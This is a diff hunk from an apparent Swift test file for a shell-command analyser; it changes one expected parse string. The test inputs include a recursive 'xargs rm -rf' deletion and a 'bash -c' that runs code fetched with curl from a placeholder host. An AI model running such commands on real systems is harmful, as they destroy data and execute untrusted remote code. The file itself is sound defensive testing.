@@ -25,7 +25,7 @@ import Testing
     ),
     (
       "find src -name x | xargs -0 rm -rf",
-      "run find src -name x; read src *; run xargs -0 rm -rf; run rm -rf …; opaque"
+      "run find src -name x; read src; run xargs -0 rm -rf; run rm -rf …; opaque"
     ),
     (
       #"timeout 5 bash -c "$(curl -s https://h.example)""#,
